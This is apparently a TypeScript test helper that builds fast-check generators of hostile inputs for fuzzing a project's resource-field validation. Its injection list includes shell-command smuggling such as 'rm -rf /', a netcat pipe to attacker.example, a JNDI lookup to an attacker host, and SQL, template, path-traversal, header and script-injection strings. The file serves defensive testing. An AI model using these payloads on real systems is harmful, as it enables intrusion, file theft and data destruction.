// Hostile values shared by the per-kind generators: strings a user (or an
// attacker) could put into any CR field, values of the wrong JSON type, and
// out-of-range numbers. None of them is tied to a kind.
import fc from 'fast-check';

/** Values that look like injections into SQL, shells, templates, paths, URLs or HTTP headers. */
export const injectionSamples: readonly string[] = [
  "'; DROP TABLE users; --",
  '" OR "1"="1',
  '$(rm -rf /)',
  '`id`',
  '; cat /etc/passwd',
  '| nc attacker.example 4444',
  '{{7*7}}',
  '${7*7}',
  '#{7*7}',
  '<%= 7*7 %>',
  '${jndi:ldap://attacker.example/a}',
  '../../../../etc/passwd',
  '..\\..\\windows\\system32',
  'file:///etc/shadow',
  '%00',
  'name%00.example.com',
  'a\u0000b',
  'line1\r\nSet-Cookie: pwned=1',
  'x\r\n\r\n<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '{"$ne": null}',
  '__proto__',
  'constructor',
  '%s%s%s%n',
  '\\',
  '"',
  "'",
];

/** Unicode that breaks naive handling: combining marks, bidi overrides, emoji, controls, odd spaces. */
export const unicodeSamples: readonly string[] = [
  'e\u0301\u0301\u0301\u0301', // stacked combining acute accents
  'Z\u0351\u0364\u0300\u0334\u0358\u0321algo',
  '\u202Egnp.exe', // right-to-left override
  '\u05E9\u05DC\u05D5\u05DD', // Hebrew
  '\u0645\u0631\u062D\u0628\u0627', // Arabic
  '\uD83D\uDE80\uD83D\uDD25\uD83D\uDC4D\uD83C\uDFFD', // emoji with a skin-tone modifier
  '\uD83D\uDC68\u200D\uD83D\uDC69\u200D\uD83D\uDC67', // ZWJ family
  '\u200B\u200C\u200D\uFEFF', // zero-width characters and BOM
  '\u0007\u0008\u001B[31mred\u001B[0m', // bell, backspace, ANSI colour
  '\t\v\f',
  '\u00A0\u2028\u2029', // no-break space, line and paragraph separators
  '\uD800', // lone high surrogate (not valid UTF-16)
  'xn--bcher-kva',
  'b\u00FCcher.example',
  '\uFFFD\uFFFF',
];

/** A string of `n` copies of `unit`, for size limits. */
function repeat(unit: string, n: number): string {
  return unit.repeat(n);
}

/** Strings far beyond any sane length (up to ~70k UTF-16 units), of plain, multi-byte and combining text. */
export const hugeString: fc.Arbitrary<string> = fc.oneof(
  fc.integer({ min: 254, max: 70_000 }).map((n) => repeat('a', n)),
  fc.integer({ min: 100, max: 5_000 }).map((n) => repeat('\uD83D\uDE80', n)),
  fc.integer({ min: 100, max: 5_000 }).map((n) => repeat('e\u0301', n)),
  fc.integer({ min: 60, max: 2_000 }).map((n) => repeat('label.', n)),
);

/** Any hostile string: injections, tricky unicode, huge, empty or blank, and random full-unicode text. */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...injectionSamples) },
  { weight: 3, arbitrary: fc.constantFrom(...unicodeSamples) },
  { weight: 2, arbitrary: hugeString },
  { weight: 1, arbitrary: fc.constantFrom('', ' ', '   ', '\n', '\r\n', '.', '*', '@', '-', '0') },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  // A hostile fragment glued to something plausible, so it passes a prefix check.
  {
    weight: 2,
    arbitrary: fc
      .tuple(
        fc.constantFrom(
          'www',
          'sg-0abc',
          'subnet-0abc',
          'db.t3.micro',
          '/api',
          'team',
          '10 mail.example.com',
        ),
        fc.constantFrom(...injectionSamples, ...unicodeSamples),
      )
      .map(([a, b]) => `${a}${b}`),
  },
);

/** Numbers outside any field's range: negative, zero, huge, beyond 2^53, fractional, and non-finite stand-ins. */
export const hostileNumber: fc.Arbitrary<number> = fc.oneof(
  fc.constantFrom(
    -1,
    0,
    -2147483649,
    2147483648,
    4294967296,
    Number.MAX_SAFE_INTEGER,
    Number.MAX_SAFE_INTEGER + 2,
    -Number.MAX_SAFE_INTEGER,
    1e300,
    -1e300,
    0.5,
    65536,
    99999999,
  ),
  fc.integer({ min: -1_000_000, max: 1_000_000 }),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
);

/** A JSON value of some type, for fields that expect another: numbers as strings, objects as arrays, nulls. */
export const wrongType: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom('80', '443', '1e3', '0x50', 'true', 'null', '[]', '{}', 'NaN', 'Infinity', '-0'),
  fc.constantFrom<unknown>(null, true, false, [], {}, [[]], [{}], { 0: 'a' }, ['a', 1, null]),
  hostileNumber,
  fc.array(fc.string({ maxLength: 8 }), { maxLength: 3 }),
  fc.dictionary(fc.string({ maxLength: 8 }), fc.string({ maxLength: 8 }), { maxKeys: 3 }),
);

/** Any hostile value: a string, a number or a value of the wrong type. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 3, arbitrary: hostileString },
  { weight: 1, arbitrary: hostileNumber },
  { weight: 2, arbitrary: wrongType },
);

/** Keys for maps (tags, selectors) and extra fields: hostile strings plus reserved-looking ones. */
export const hostileKey: fc.Arbitrary<string> = fc.oneof(
  hostileString.filter((s) => s.length > 0 && s.length < 300),
  fc.constantFrom(
    'skylift.dev/owner',
    'skylift.dev/uid',
    'aws:cloudformation:stack-name',
    'Name',
    'kubernetes.io/role/elb',
  ),
);
